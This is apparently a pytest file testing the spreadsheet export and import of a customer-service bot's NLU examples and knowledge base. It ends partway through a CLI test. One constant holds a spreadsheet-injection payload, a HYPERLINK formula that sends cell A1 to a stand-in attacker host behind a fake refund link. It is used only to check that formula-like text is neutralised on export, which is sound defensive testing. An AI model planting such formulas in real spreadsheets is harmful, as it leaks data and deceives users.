"""The spreadsheet round trip (`kefu sheet export/import`) on a copy of the real data."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from unittest.mock import patch

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.cli.sheet import sheet
from bot.core.settings import PROJECT_ROOT, Settings
from bot.editor.spreadsheet.export import export_workbook
from bot.editor.spreadsheet.importing import import_workbook
from bot.editor.spreadsheet.model import (
    KNOWLEDGE_COLUMNS,
    NLU_COLUMNS,
    SheetError,
    neutralise,
    restore,
)
from kefu_shared.nlu_data import labelled_examples, strip_entities
from knowledge_index import KnowledgeEntry, load_entries

REAL_DATA = PROJECT_ROOT / "data"
Rows = list[list[str]]


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    """Settings whose data folder is a fresh copy of the real nlu/ and knowledge/ folders."""
    data = tmp_path / "data"
    for folder in ("nlu", "knowledge"):
        shutil.copytree(REAL_DATA / folder, data / folder)
    return Settings(data_dir=data, var_dir=tmp_path / "var")


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The real data exported once: `xlsx`, `nlu.csv`, `knowledge.csv`."""
    base = tmp_path_factory.mktemp("exported")
    settings = Settings(data_dir=REAL_DATA, var_dir=base / "var")
    return {
        "xlsx": export_workbook(settings, base / "kefu.xlsx"),
        "nlu.csv": export_workbook(settings, base / "nlu.csv", "nlu"),
        "knowledge.csv": export_workbook(settings, base / "knowledge.csv", "knowledge"),
    }


def snapshot(settings: Settings) -> dict[str, tuple[bytes, int]]:
    """Every data file's bytes and modification time."""
    return {
        str(path.relative_to(settings.data_dir)): (path.read_bytes(), path.stat().st_mtime_ns)
        for path in sorted(settings.data_dir.rglob("*"))
        if path.is_file()
    }


def changed_files(before: dict[str, tuple[bytes, int]], settings: Settings) -> set[str]:
    after = snapshot(settings)
    return {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)}


def read_csv(path: Path) -> Rows:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [list(row) for row in csv.reader(handle)]


def write_csv(path: Path, rows: Rows, encoding: str = "utf-8-sig") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def sheet_rows(path: Path, name: str) -> Rows:
    workbook = load_workbook(path, read_only=True)
    try:
        return [["" if v is None else str(v) for v in row] for row in workbook[name].values]
    finally:
        workbook.close()


def edit_xlsx(source: Path, target: Path, edit: Callable[[Worksheet, Worksheet], None]) -> Path:
    """Copies the exported workbook to `target` with `edit(nlu, knowledge)` applied."""
    workbook = load_workbook(source)
    edit(workbook["nlu"], workbook["knowledge"])
    workbook.save(target)
    return target


def make_xlsx(path: Path, sheets: dict[str, Rows]) -> Path:
    workbook = Workbook()
    for default in list(workbook.worksheets):
        workbook.remove(default)
    for name, rows in sheets.items():
        worksheet = workbook.create_sheet(name)
        for row in rows:
            worksheet.append(row)
    workbook.save(path)
    return path


def row_of(worksheet: Worksheet, column: int, value: str) -> int:
    """The first row whose cell in `column` (1-based) holds `value`."""
    for (cell,) in worksheet.iter_rows(min_col=column, max_col=column):
        if cell.value == value:
            return int(cell.row)
    raise AssertionError(f"{value!r} not in column {column}")


def entries_by_id(settings: Settings) -> dict[str, KnowledgeEntry]:
    return {entry.id: entry for entry in load_entries(settings.knowledge_source_dir)}


# ----------------------------------------------------------------------------- lossless


def test_xlsx_export_holds_every_example_and_entry_as_text(exported: dict[str, Path]) -> None:
    nlu = sheet_rows(exported["xlsx"], "nlu")
    knowledge = sheet_rows(exported["xlsx"], "knowledge")
    assert nlu[0] == list(NLU_COLUMNS) and knowledge[0] == list(KNOWLEDGE_COLUMNS)
    from_sheet = Counter((strip_entities(example), intent) for _, intent, example in nlu[1:])
    assert from_sheet == Counter(labelled_examples(REAL_DATA / "nlu"))
    assert any("[KF202611200001](order_number)" in row[2] for row in nlu)  # markup kept
    entries = load_entries(REAL_DATA / "knowledge")
    assert [row[2] for row in knowledge[1:]] == [entry.id for entry in entries]
    first = dict(zip(KNOWLEDGE_COLUMNS, knowledge[1], strict=True))
    assert first["answer"] == entries[0].answer
    assert first["alt_questions"].split("\n") == list(entries[0].alt_questions)
    assert first["tags"].split("\n") == list(entries[0].tags)
    assert first["updated_at"] == entries[0].updated_at == "2026-05-10"

    workbook = load_workbook(exported["xlsx"])
    worksheet = workbook["knowledge"]
    assert worksheet.freeze_panes == "A2"
    assert worksheet["A1"].font.bold and not worksheet["A2"].font.bold
    assert worksheet["G2"].alignment.wrap_text  # answer
    assert worksheet.column_dimensions["G"].width > worksheet.column_dimensions["D"].width
    for sheet_ in workbook.worksheets:
        for row in sheet_.iter_rows():
            for cell in row:
                assert cell.data_type == "s" and cell.number_format == "@", cell.coordinate


def test_csv_export_is_utf8_with_bom(exported: dict[str, Path]) -> None:
    raw = exported["knowledge.csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + b"file,topic,id,")
    assert "忘记登录密码怎么办".encode() in raw
    rows = read_csv(exported["knowledge.csv"])
    assert rows == sheet_rows(exported["xlsx"], "knowledge")
    assert read_csv(exported["nlu.csv"]) == sheet_rows(exported["xlsx"], "nlu")


@pytest.mark.parametrize("name", ["xlsx", "nlu.csv", "knowledge.csv"])
def test_export_then_import_changes_nothing(
    settings: Settings, exported: dict[str, Path], name: str
) -> None:
    before = snapshot(settings)
    summary = import_workbook(settings, exported[name])
    assert not summary.changed and len(summary.unchanged) >= 10
    assert snapshot(settings) == before  # same bytes, not even rewritten
    assert summary.lines()[-1].startswith("Nothing to change")


# ----------------------------------------------------------------------------- edits


def test_one_edited_cell_lands_exactly_and_exports_back(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)
    old = entries_by_id(settings)
    answer = "订单号是 KF 开头加 12 位数字。\n在 我的订单 > 订单详情 顶部可以看到。"

    def edit(_nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge.cell(row_of(knowledge, 3, "orders-number-format"), 7).value = answer

    edited = edit_xlsx(exported["xlsx"], tmp_path / "edited.xlsx", edit)
    summary = import_workbook(settings, edited)

    assert changed_files(before, settings) == {"knowledge/orders.yml"}
    assert [change.describe(settings.data_dir.parent) for change in summary.changes] == [
        "data/knowledge/orders.yml: 0 added, 1 changed, 0 removed"
    ]
    new = entries_by_id(settings)
    assert new["orders-number-format"].answer == answer
    assert {k: v for k, v in new.items() if k != "orders-number-format"} == {
        k: v for k, v in old.items() if k != "orders-number-format"
    }
    text = (settings.knowledge_source_dir / "orders.yml").read_text(encoding="utf-8")
    assert (
        "    answer: |\n      订单号是 KF 开头加 12 位数字。\n"
        "      在 我的订单 > 订单详情 顶部可以看到。\n    tags: [订单号]\n"
    ) in text
    old_lines = before["knowledge/orders.yml"][0].decode().splitlines()
    assert len(text.splitlines()) == len(old_lines)  # two answer lines for two: nothing else

    again = export_workbook(settings, tmp_path / "again.xlsx")
    for name in ("nlu", "knowledge"):
        assert sheet_rows(again, name) == sheet_rows(edited, name)


def test_one_edited_csv_cell_lands_exactly_and_exports_back(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)
    rows = read_csv(exported["nlu.csv"])
    index = rows.index(["orders.yml", "order_status", "查订单"])
    rows[index][2] = "查查订单 [KF202611200003](order_number)"
    edited = write_csv(tmp_path / "edited.csv", rows)
    examples = Counter(labelled_examples(settings.nlu_dir))

    import_workbook(settings, edited)

    assert changed_files(before, settings) == {"nlu/orders.yml"}
    assert Counter(labelled_examples(settings.nlu_dir)) - examples == Counter(
        {("查查订单 KF202611200003", "order_status"): 1}
    )
    assert examples - Counter(labelled_examples(settings.nlu_dir)) == Counter(
        {("查订单", "order_status"): 1}
    )
    text = (settings.nlu_dir / "orders.yml").read_text(encoding="utf-8")
    assert "\n    - 查查订单 [KF202611200003](order_number)\n" in text
    again = export_workbook(settings, tmp_path / "again.csv", "nlu")
    assert again.read_bytes() == edited.read_bytes()


def test_new_example_and_new_entry_are_added_and_validate(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)
    example = "我的单子[KF202611200007](order_number)怎么还没动静"
    new_entry = [
        "shipping.yml",
        "shipping",
        "shipping-holiday",
        "zh",
        "节假日发货吗？",
        "过年还发货吗\n国庆期间能送到吗",
        "节假日正常发货。\n偏远地区可能延迟 1-2 天。",
        "发货\n节假日",
        "https://help.kefu.example/shipping/holiday",
        "2026-12-01",
    ]

    def edit(nlu: Worksheet, knowledge: Worksheet) -> None:
        nlu.append(["orders.yml", "order_status", example])
        knowledge.append(new_entry)

    summary = import_workbook(settings, edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit))

    assert changed_files(before, settings) == {"nlu/orders.yml", "knowledge/shipping.yml"}
    assert {(c.path.name, c.added, c.changed, c.removed) for c in summary.changes} == {
        ("orders.yml", 1, 0, 0),
        ("shipping.yml", 1, 0, 0),
    }
    assert ("我的单子KF202611200007怎么还没动静", "order_status") in labelled_examples(
        settings.nlu_dir
    )
    nlu_text = (settings.nlu_dir / "orders.yml").read_text(encoding="utf-8")
    assert f"    - 订单卡片发你了 帮我看看\n    - {example}\n\n- intent: inform\n" in nlu_text
    entry = entries_by_id(settings)["shipping-holiday"]
    assert entry == KnowledgeEntry(
        id="shipping-holiday",
        question="节假日发货吗？",
        answer="节假日正常发货。\n偏远地区可能延迟 1-2 天。",
        alt_questions=("过年还发货吗", "国庆期间能送到吗"),
        language="zh",
        topic="shipping",
        tags=("发货", "节假日"),
        link="https://help.kefu.example/shipping/holiday",
        updated_at="2026-12-01",
    )
    text = (settings.knowledge_source_dir / "shipping.yml").read_text(encoding="utf-8")
    assert text.endswith(
        "\n\n  - id: shipping-holiday\n    language: zh\n    question: 节假日发货吗？\n"
        "    alt_questions:\n      - 过年还发货吗\n      - 国庆期间能送到吗\n"
        "    answer: |\n      节假日正常发货。\n      偏远地区可能延迟 1-2 天。\n"
        "    tags: [发货, 节假日]\n    link: https://help.kefu.example/shipping/holiday\n"
        "    updated_at: 2026-12-01\n"
    )


def test_removed_rows_remove_the_entry_and_the_example(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)

    def edit(nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge.delete_rows(row_of(knowledge, 3, "orders-number-format"))
        nlu.delete_rows(row_of(nlu, 3, "my ticket still says pending, any news"))

    summary = import_workbook(settings, edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit))

    assert changed_files(before, settings) == {"knowledge/orders.yml", "nlu/tickets.yml"}
    assert "orders-number-format" not in entries_by_id(settings)
    assert len(entries_by_id(settings)) == len(load_entries(REAL_DATA / "knowledge")) - 1
    assert ("my ticket still says pending, any news", "ticket_status") not in labelled_examples(
        settings.nlu_dir
    )
    assert {(c.path.name, c.removed) for c in summary.changes} == {
        ("orders.yml", 1),
        ("tickets.yml", 1),
    }
    text = (settings.knowledge_source_dir / "orders.yml").read_text(encoding="utf-8")
    assert "updated_at: 2026-03-02\n\n  - id: orders-cancel-before-shipping\n" in text


def test_removing_the_last_intent_before_regexes_keeps_them_and_the_blank_lines(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = read_csv(exported["nlu.csv"])
    rows = [row for row in rows if row[:2] != ["orders.yml", "logistics_issue"]]
    import_workbook(settings, write_csv(tmp_path / "e.csv", rows))
    original = (REAL_DATA / "nlu" / "orders.yml").read_text(encoding="utf-8")
    block = original[original.index("- intent: logistics_issue") : original.index("- regex:")]
    assert block.count("\n- ") == 0 and block.endswith("\n\n")  # one whole item
    assert (settings.nlu_dir / "orders.yml").read_text(encoding="utf-8") == original.replace(
        block, ""
    )


def test_comments_and_other_items_survive_a_rewrite(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = read_csv(exported["nlu.csv"])
    rows.append(["service.yml", "skip", "说不上来"])
    import_workbook(settings, write_csv(tmp_path / "e.csv", rows))
    text = (settings.nlu_dir / "service.yml").read_text(encoding="utf-8")
    original = (REAL_DATA / "nlu" / "service.yml").read_text(encoding="utf-8")
    assert text.startswith('version: "3.1"\n\n# Answers used while the bot collects a need')
    assert text.count("- regex: email") == 1 and "- 说不上来\n" in text
    assert len(text.splitlines()) == len(original.splitlines()) + 1


def test_new_files_are_created_in_the_data_folders(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)

    def edit(nlu: Worksheet, knowledge: Worksheet) -> None:
        nlu.append(["gifts.yml", "product_question", "礼品卡怎么用"])
        nlu.append(["gifts.yml", "product_question", "gift card balance"])
        nlu.append(["gifts.yml", "greet", "礼品卡你好"])
        zh = ["gift-card-use", "zh", "礼品卡怎么用？", "", "结算时选择礼品卡即可抵扣。", "", "", ""]
        en = ["gift-card-use-en", "en", "How do I use a gift card?", "", "Pick it at checkout."]
        knowledge.append(["gifts.yml", "gifts", *zh])
        knowledge.append(["gifts.yml", "gifts", *en, "gift card", "", "2026-12-01"])

    summary = import_workbook(settings, edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit))

    assert changed_files(before, settings) == {"nlu/gifts.yml", "knowledge/gifts.yml"}
    assert all(change.created for change in summary.changes)
    assert (settings.nlu_dir / "gifts.yml").read_text(encoding="utf-8") == (
        'version: "3.1"\n\nnlu:\n- intent: product_question\n  examples: |\n'
        "    - 礼品卡怎么用\n    - gift card balance\n\n"
        "- intent: greet\n  examples: |\n    - 礼品卡你好\n"
    )
    assert (settings.knowledge_source_dir / "gifts.yml").read_text(encoding="utf-8") == (
        "topic: gifts\nentries:\n  - id: gift-card-use\n    language: zh\n"
        "    question: 礼品卡怎么用？\n    answer: |\n      结算时选择礼品卡即可抵扣。\n\n"
        "  - id: gift-card-use-en\n    language: en\n    question: How do I use a gift card?\n"
        "    answer: |\n      Pick it at checkout.\n    tags: [gift card]\n"
        "    updated_at: 2026-12-01\n"
    )
    assert entries_by_id(settings)["gift-card-use-en"].topic == "gifts"
    assert ("礼品卡你好", "greet") in labelled_examples(settings.nlu_dir)


def test_a_knowledge_file_without_rows_stays_with_no_entries(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = [row for row in read_csv(exported["knowledge.csv"]) if row[0] != "invoices.yml"]
    summary = import_workbook(settings, write_csv(tmp_path / "k.csv", rows))
    path = settings.knowledge_source_dir / "invoices.yml"
    assert path.read_text(encoding="utf-8") == "topic: invoices\nentries: []\n"
    assert not any(entry.topic == "invoices" for entry in load_entries(path.parent))
    (line,) = [line for line in summary.lines() if "invoices.yml" in line]
    assert "20 removed (no entries left; the file stays" in line
    # and rows for it later fill it again, as a block list
    rows.append(["invoices.yml", "", "invoices-again", "", "Invoice?", "", "Yes.", "", "", ""])
    import_workbook(settings, write_csv(tmp_path / "k2.csv", rows))
    assert path.read_text(encoding="utf-8") == (
        "topic: invoices\nentries:\n  - id: invoices-again\n    question: Invoice?\n"
        "    answer: |\n      Yes.\n"
    )


def test_an_entry_moves_between_files_and_rows_reorder(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = read_csv(exported["knowledge.csv"])
    moved = next(row for row in rows if row[2] == "orders-number-format")
    rows.remove(moved)
    last_shipping = max(index for index, row in enumerate(rows) if row[0] == "shipping.yml")
    rows.insert(last_shipping + 1, ["shipping.yml", "shipping", *moved[2:]])
    import_workbook(settings, write_csv(tmp_path / "k.csv", rows))
    entry = entries_by_id(settings)["orders-number-format"]
    assert entry.origin.startswith(str(settings.knowledge_source_dir / "shipping.yml"))
    assert entry.topic == "shipping"
    assert export_workbook(settings, tmp_path / "again.csv", "knowledge").read_bytes() == (
        (tmp_path / "k.csv").read_bytes()
    )


def test_excel_dates_become_iso_dates_and_an_unchanged_date_touches_nothing(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)

    def same_date(_nlu: Worksheet, knowledge: Worksheet) -> None:
        cell = knowledge.cell(row_of(knowledge, 3, "orders-number-format"), 10)
        assert cell.value == "2026-03-02"
        cell.value = dt.datetime(2026, 3, 2)  # what Excel makes of a typed date
        cell.number_format = "yyyy-mm-dd"

    import_workbook(settings, edit_xlsx(exported["xlsx"], tmp_path / "same.xlsx", same_date))
    assert snapshot(settings) == before

    def new_date(_nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge.cell(row_of(knowledge, 3, "orders-number-format"), 10).value = dt.datetime(
            2027, 1, 5
        )

    import_workbook(settings, edit_xlsx(exported["xlsx"], tmp_path / "new.xlsx", new_date))
    text = (settings.knowledge_source_dir / "orders.yml").read_text(encoding="utf-8")
    assert "link: https://help.kefu.example/orders/number\n    updated_at: 2027-01-05\n" in text
    assert entries_by_id(settings)["orders-number-format"].updated_at == "2027-01-05"

    rows = read_csv(exported["knowledge.csv"])
    next(row for row in rows if row[2] == "orders-check-status")[9] = "2027/2/3"  # Excel's CSV
    import_workbook(settings, write_csv(tmp_path / "k.csv", rows))
    assert entries_by_id(settings)["orders-check-status"].updated_at == "2027-02-03"


def test_a_value_starting_with_an_equals_sign_stays_text(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = read_csv(exported["knowledge.csv"])
    next(row for row in rows if row[2] == "orders-check-status")[6] = "=1+1 is not a formula"
    import_workbook(settings, write_csv(tmp_path / "k.csv", rows))
    workbook_path = export_workbook(settings, tmp_path / "again.xlsx")
    worksheet = load_workbook(workbook_path)["knowledge"]
    cell = worksheet.cell(row_of(worksheet, 3, "orders-check-status"), 7)
    assert (cell.value, cell.data_type) == ("'=1+1 is not a formula", "s")  # neutralised
    before = snapshot(settings)
    assert not import_workbook(settings, workbook_path).changed
    assert snapshot(settings) == before


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点这里退款")'
FORMULA_LIKE = [
    HYPERLINK,
    "+86 138 0000 0000 是我的电话",
    "-1 分也不给",
    "@客服 在吗",
    "'=已经带着撇号",
    "''+两个撇号",
]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_formula_like_customer_texts_are_exported_neutralised(
    settings: Settings, exported: dict[str, Path], tmp_path: Path, suffix: str
) -> None:
    rows = read_csv(exported["nlu.csv"])
    intent = rows[1][1]
    rows += [[rows[1][0], intent, neutralise(text)] for text in FORMULA_LIKE]  # as exported
    rows.append([rows[1][0], intent, "'plain apostrophe, no formula"])
    import_workbook(settings, write_csv(tmp_path / "n.csv", rows))
    out = export_workbook(settings, tmp_path / f"again{suffix}", "nlu")
    sheet_ = read_csv(out) if suffix == ".csv" else sheet_rows(out, "nlu")
    examples = [row[2] for row in sheet_]
    for text in FORMULA_LIKE:
        assert "'" + text in examples and text not in examples, text
    assert "'plain apostrophe, no formula" in examples  # nothing to neutralise
    if suffix == ".xlsx":
        for row in load_workbook(out)["nlu"].iter_rows():
            assert all(cell.data_type == "s" for cell in row)
    # the data holds the texts as given; back again, the escape is removed exactly
    in_data = {example for example, _ in labelled_examples(settings.nlu_dir)}
    assert set(FORMULA_LIKE) <= in_data
    before = snapshot(settings)
    assert not import_workbook(settings, out).changed
    assert snapshot(settings) == before


def test_neutralise_and_restore_are_inverse() -> None:
    values = [*FORMULA_LIKE, "", "'", "''", "'x", "x=1", "普通的问题", "=", "'''@", "\r", "\t缩进"]
    for value in values:
        assert restore(neutralise(value)) == value, value
        assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    assert neutralise(HYPERLINK) == "'" + HYPERLINK


def test_dry_run_counts_but_writes_nothing(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    before = snapshot(settings)

    def edit(nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge.delete_rows(2)
        nlu.append(["new.yml", "greet", "哈喽"])

    summary = import_workbook(
        settings, edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit), dry_run=True
    )
    assert snapshot(settings) == before
    assert summary.dry_run and len(summary.changes) == 2
    assert summary.lines()[-2:] == [
        "24 data files checked: 2 would change, 22 unchanged.",
        "Dry run: nothing was written.",
    ]


def test_a_semicolon_csv_and_extra_columns_are_read(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = [[*row, "note"] for row in read_csv(exported["nlu.csv"])]
    path = tmp_path / "semicolon.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(rows)
    before = snapshot(settings)
    assert not import_workbook(settings, path).changed
    assert snapshot(settings) == before


# ----------------------------------------------------------------------------- bad input


@pytest.fixture
def refused(settings: Settings) -> Iterator[Callable[..., str]]:
    """Imports a spreadsheet that must be refused; returns the message; checks nothing changed."""
    before = snapshot(settings)

    def run(path: Path, what: str | None = None) -> str:
        with pytest.raises(SheetError) as caught:
            import_workbook(settings, path, what)  # type: ignore[arg-type]
        return str(caught.value)

    yield run
    assert snapshot(settings) == before


def test_missing_columns_are_named_with_the_columns_found(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    def edit(_nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge.delete_cols(8)  # tags
        knowledge.delete_cols(2)  # topic

    message = refused(edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit))
    assert message.startswith("e.xlsx sheet knowledge: missing the columns topic, tags ")
    assert "(columns found: file, id, language, question, alt_questions, answer, link, " in message


def test_a_formula_is_refused_with_its_cell(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    def edit(_nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge["F12"] = '=E12&"?"'

    message = refused(edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit))
    assert message == (
        'e.xlsx knowledge!F12 (alt_questions) holds a formula (=E12&"?"): paste it as a value'
    )


def test_rows_after_a_blank_row_keep_their_numbers(
    tmp_path: Path, refused: Callable[..., str]
) -> None:
    rows = [
        list(NLU_COLUMNS),
        ["orders.yml", "order_status", "查订单"],
        [],
        ["orders.yml", "", "x"],
    ]
    message = refused(make_xlsx(tmp_path / "n.xlsx", {"nlu": rows}))
    assert message == "n.xlsx nlu!B4 (intent) is empty: the intent is required"


@pytest.mark.parametrize(
    ("table", "column", "index"),
    [
        ("nlu", "intent", 1),
        ("nlu", "example", 2),
        ("knowledge", "id", 2),
        ("knowledge", "question", 4),
        ("knowledge", "answer", 6),
    ],
)
def test_an_empty_required_cell_is_refused(
    exported: dict[str, Path],
    tmp_path: Path,
    refused: Callable[..., str],
    table: str,
    column: str,
    index: int,
) -> None:
    rows = read_csv(exported[f"{table}.csv"])
    rows[9][index] = " "
    message = refused(write_csv(tmp_path / "e.csv", rows))
    letter = "ABCDEFGHIJ"[index]
    assert message == f"e.csv row 10, column {letter} ({column}) is empty: the {column} is required"


def test_a_duplicate_id_is_refused_naming_both_rows(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    rows = read_csv(exported["knowledge.csv"])
    rows[30][2] = rows[4][2]
    message = refused(write_csv(tmp_path / "e.csv", rows))
    assert message == (
        f"e.csv row 31, column C (id): duplicate id {rows[4][2]!r} (also in row 5): "
        "give each entry its own id"
    )


def test_an_unknown_language_is_refused(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    def edit(_nlu: Worksheet, knowledge: Worksheet) -> None:
        knowledge["D7"] = "fr"

    message = refused(edit_xlsx(exported["xlsx"], tmp_path / "e.xlsx", edit))
    assert message == (
        "e.xlsx knowledge!D7 (language): unknown language 'fr': use zh or en (or leave it empty)"
    )


def test_an_intent_missing_from_the_domain_is_an_error(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    rows = read_csv(exported["nlu.csv"])
    rows.append(["orders.yml", "order_stauts", "我的订单呢"])
    message = refused(write_csv(tmp_path / "e.csv", rows))
    assert message == (
        f"e.csv row {len(rows)}, column B (intent): the intent 'order_stauts' is not in "
        "domain.yml: did you mean order_status? declare it under intents: in domain.yml first"
    )


def test_without_a_domain_file_intents_are_not_checked(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    rows = read_csv(exported["nlu.csv"])
    rows.append(["orders.yml", "brand_new_intent", "新意图"])
    summary = import_workbook(
        settings, write_csv(tmp_path / "e.csv", rows), domain=tmp_path / "none.yml"
    )
    assert summary.changed and "intents were not checked" in summary.warnings[0]


@pytest.mark.parametrize("name", ["../orders.yml", "sub/x.yml", "x.txt", ".hidden.yml", "x"])
def test_a_file_outside_the_data_folder_is_refused(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str], name: str
) -> None:
    rows = read_csv(exported["nlu.csv"])
    rows[1][0] = name
    message = refused(write_csv(tmp_path / "e.csv", rows))
    assert message.startswith(f"e.csv row 2, column A (file) is {name!r}: name a file of the data")
    assert not (tmp_path / "orders.yml").exists()


def test_every_problem_is_reported_at_once(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    rows = read_csv(exported["knowledge.csv"])
    rows[2][4] = ""
    rows[3][3] = "jp"
    rows[4][9] = "3/2/2026"
    lines = refused(write_csv(tmp_path / "e.csv", rows)).splitlines()
    assert [line.split(":")[0] for line in lines] == [
        "e.csv row 3, column E (question) is empty",
        "e.csv row 4, column D (language)",
        "e.csv row 5, column J (updated_at) is '3/2/2026'",
    ]


def test_other_bad_cells_are_refused(
    exported: dict[str, Path], tmp_path: Path, refused: Callable[..., str]
) -> None:
    rows = read_csv(exported["nlu.csv"])
    rows[2][2] = "two\nlines"
    rows[3][2] = "1.38123E+10"
    rows[4][1] = "order status"
    lines = refused(write_csv(tmp_path / "e.csv", rows)).splitlines()
    assert lines == [
        "e.csv row 3, column C (example) has a line break: an example is one line, "
        "put each example in its own row",
        "e.csv row 4, column C (example) is '1.38123E+10': a number Excel shortened; "
        "use the .xlsx, or open the CSV with this column as text",
        "e.csv row 5, column B (intent) is 'order status': an intent's name has no spaces "
        "or line breaks",
    ]


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("edits.xls", b"whatever", "edits.xls: not an .xlsx or .csv file"),
        ("edits.txt", b"file,intent,example\n", "edits.txt: not an .xlsx or .csv file"),
        ("broken.xlsx", b"PK\x03\x04 not really a zip", "broken.xlsx: cannot read it as an XLSX"),
        ("text.xlsx", b"file,intent\n", "text.xlsx: cannot read it as an XLSX workbook"),
        (
            "gbk.csv",
            "file,intent,example\norders.yml,order_status,查订单\n".encode("gbk"),
            "gbk.csv: line 2: not UTF-8 text (byte 0xb2); save it as 'CSV UTF-8'",
        ),
        ("odd.csv", b"a,b\n1,2\n", "odd.csv: cannot tell whether it holds NLU examples or"),
        ("head.csv", b"file,intent,example\n", "head.csv: no rows: importing it would remove"),
        ("twice.csv", b"file,intent,example,intent\n", "twice.csv: the column intent appears"),
    ],
)
def test_unreadable_files_are_refused(
    tmp_path: Path, refused: Callable[..., str], name: str, content: bytes, expected: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert refused(path).startswith(expected)


def test_a_missing_file_and_a_missing_sheet_are_refused(
    tmp_path: Path, refused: Callable[..., str]
) -> None:
    assert refused(tmp_path / "nope.xlsx") == f"{tmp_path / 'nope.xlsx'}: no such file"
    path = make_xlsx(tmp_path / "s.xlsx", {"Sheet1": [["a"]]})
    assert refused(path) == "s.xlsx: no sheet named nlu or knowledge (sheets found: Sheet1)"
    assert refused(path, "knowledge") == "s.xlsx: no sheet named knowledge (sheets found: Sheet1)"


def test_knowledge_that_would_not_load_is_refused_before_anything_is_written(
    settings: Settings, exported: dict[str, Path], tmp_path: Path
) -> None:
    path = settings.knowledge_source_dir / "payments.yml"
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("    tags: [", "    colour: red\n    tags: [", 1), encoding="utf-8"
    )
    rows = read_csv(exported["knowledge.csv"])
    rows[1][6] = "A new answer."
    before = snapshot(settings)
    with pytest.raises(SheetError) as caught:
        import_workbook(settings, write_csv(tmp_path / "k.csv", rows))
    message = str(caught.value)
    assert message.startswith(f"{Path('data/knowledge/payments.yml')}:")
    assert "unknown field 'colour'" in message and "nothing was written" in message
    assert snapshot(settings) == before


# ----------------------------------------------------------------------------- CLI


@pytest.fixture
def cli(settings: Settings) -> Iterator[Callable[..., tuple[int, str, str]]]:
    def run(*args: str) -> tuple[int, str, str]:
        result = CliRunner().invoke(sheet, list(args))
        return result.exit_code, result.stdout, result.stderr

    with patch("bot.cli.sheet.get_settings", return_value=settings):
        yield run


def test_cli_exports_and_imports(
    settings: Settings, cli: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    out = tmp_path / "kefu.xlsx"
    code, stdout, _ = cli("export", str(out))
    assert code == 0 and stdout.startswith(f"Wrote {out} (") and "226 knowledge rows" in stdout
    code, stdout, _ = cli("import", str(out))
    assert (code, stdout) == (0, "Nothing to change: all 23 data files already match the sheet.\n")

    csv_path = tmp_path / "nlu.csv"
    assert cli("export", str(csv_path), "--what", "nlu")[0] == 0
    rows = read_csv(csv_path)
    rows.append(["orders.yml", "order_status", "帮我瞧瞧订单"])
    write_csv(csv_path, rows)
    before = snapshot(settings)
    code, stdout, _ = cli("import", str(csv_path), "--dry-run")
    assert code == 0 and stdout.splitlines() == [
        "data/nlu/orders.yml: 1 added, 0 changed, 0 removed",
        "13 data files checked: 1 would change, 12 unchanged.",
        "Dry run: nothing was written.",
    ]
    assert snapshot(settings) == before
    code, stdout, _ = cli("import", str(csv_path))
    assert code == 0 and "13 data files checked: 1 changed, 12 unchanged." in stdout
    assert changed_files(before, settings) == {"nlu/orders.yml"}


def test_cli_refuses_bad_input_with_exit_code_2(
